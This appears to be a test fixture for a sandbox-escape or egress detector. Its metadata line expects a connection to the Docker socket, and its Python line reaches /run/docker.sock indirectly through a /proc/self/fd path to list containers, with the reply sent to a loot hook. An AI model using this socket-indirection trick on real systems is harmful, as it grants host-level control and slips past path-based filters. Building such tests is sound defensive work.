#: {"class": "egress", "loader": "script", "expect": [["connect", "docker\\.sock|/proc/self/fd/\\d+"]], "effect": {"loot": "DECOY-reply"}}
import socket
f = os.open("/run/docker.sock", os.O_PATH); s = socket.socket(socket.AF_UNIX); s.connect("/proc/self/fd/%d" % f); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
